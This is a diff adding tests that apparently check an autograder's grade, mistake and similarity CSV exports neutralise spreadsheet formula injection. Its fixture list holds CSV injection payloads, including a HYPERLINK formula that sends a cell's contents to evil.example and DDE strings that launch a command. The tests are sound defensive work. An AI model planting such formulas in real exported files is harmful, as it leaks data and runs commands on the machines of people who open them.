@@ -358,3 +358,58 @@ def test_a_verdict_crosses_processes_as_data(verdicts):
     """A worker sends its verdict as JSON: every case's outcome comes back as it was."""
     for v in verdicts:
         assert Verdict.from_dict(json.loads(json.dumps(v.as_dict()))) == v
+
+
+# ---------------------------------------------------------------- CSV cells a spreadsheet would run
+
+# OWASP's CSV injection: a cell starting with one of these is read as a formula.
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+# (a student id names a folder: no "/")
+HOSTILE_IDS = ['=HYPERLINK("http:" & "evil.example?" & A1, "open")', "+1+cmd|' -C calc'!A0",
+               "-2+3+cmd|' -C calc'!A0", "@SUM(1+1)*cmd|' -C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def assert_no_formula(rows):
+    """No cell of the rows (a CSV read back) starts with what a spreadsheet runs."""
+    runnable = [cell for row in rows for cell in row if cell.startswith(FORMULA)]
+    assert not runnable
+
+
+def shown(cell):
+    """A cell as a spreadsheet shows it: a leading single quote marks text and is not shown."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+def test_no_cell_of_grades_or_mistakes_csv_starts_with_a_formula(tmp_path):
+    failed = [CaseOutcome("pad 1", False, "off by one", "-the bias: add b[f]", mistake="-the bias: add b[f]")]
+    hostile = [verdict(student, [1.0, 2.0], cases={"conv_forward_naive": failed}) for student in HOSTILE_IDS]
+    broken = Verdict("@broken", "02_convolution", "convolution", UNGRADABLE, reason="=cmd|' -C calc'!A0 is not JSON")
+    flagged = dataclasses.replace(verdict("+flagged", [3.0, 2.0]), flag="-timestamp.txt is a folder")
+    write_reports("02_convolution", [*hostile, broken, flagged], EXERCISES, tmp_path, tmp_path / "reports")
+    grades_csv = read_csv(tmp_path / "reports" / "02_convolution" / "grades.csv")
+    mistakes_csv = read_csv(tmp_path / "reports" / "02_convolution" / "mistakes.csv")
+    assert_no_formula(grades_csv)
+    assert_no_formula(mistakes_csv)
+    header, *rows = grades_csv
+    by_id = {shown(row[0]): dict(zip(header, row)) for row in rows}
+    assert sorted(by_id) == sorted([*HOSTILE_IDS, "@broken", "+flagged"])          # the ids are recognisable
+    assert shown(by_id["@broken"]["reason"]) == broken.reason
+    assert shown(by_id["+flagged"]["reason"]) == flagged.flag
+    assert all(float(row["score"]) >= 0 and not row["score"].startswith("'") for row in by_id.values())
+    mistake = next(row for row in mistakes_csv if shown(row[1]) == "-the bias: add b[f]")
+    assert shown(mistake[4]).split("; ") == sorted(HOSTILE_IDS)[:mistakes.EXAMPLES]
+
+
+def test_no_cell_of_similarity_csv_starts_with_a_formula(tmp_path):
+    from autograder.admin import similarity
+    pairs = [similarity.Pair(a, b, 0.9, 40) for a, b in zip(HOSTILE_IDS, HOSTILE_IDS[1:])]
+    similarity.write_similarity(similarity.Similarity("02_convolution", pairs), tmp_path)
+    rows = read_csv(tmp_path / "02_convolution" / "similarity.csv")
+    assert_no_formula(rows)
+    assert [(shown(a), shown(b)) for a, b, *_ in rows[1:]] == list(zip(HOSTILE_IDS, HOSTILE_IDS[1:]))
+
+
+def test_a_csv_cell_neutralises_text_and_keeps_numbers():
+    from autograder.reports.common import csv_cell
+    assert [csv_cell(value) for value in (3, -1.5, 0.25, None, "ada", "3.5")] == [3, -1.5, 0.25, "", "ada", "3.5"]
+    assert [csv_cell(text) for text in HOSTILE_IDS] == ["'" + text for text in HOSTILE_IDS]
